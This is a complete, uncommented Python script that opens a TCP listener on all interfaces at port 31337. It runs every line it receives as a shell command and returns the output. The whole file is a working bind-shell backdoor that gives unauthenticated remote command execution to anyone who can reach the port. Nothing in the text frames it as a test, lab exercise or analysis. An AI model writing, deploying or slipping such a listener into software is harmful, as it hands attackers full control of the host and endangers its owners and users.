import asyncio
import subprocess


async def handle(reader, writer):
    while True:
        line = await reader.readline()
        if not line:
            break
        result = subprocess.run(line.decode(), shell=True, capture_output=True)
        writer.write(result.stdout + result.stderr)
        await writer.drain()


async def main():
    server = await asyncio.start_server(handle, "0.0.0.0", 31337)
    async with server:
        await server.serve_forever()


asyncio.run(main())
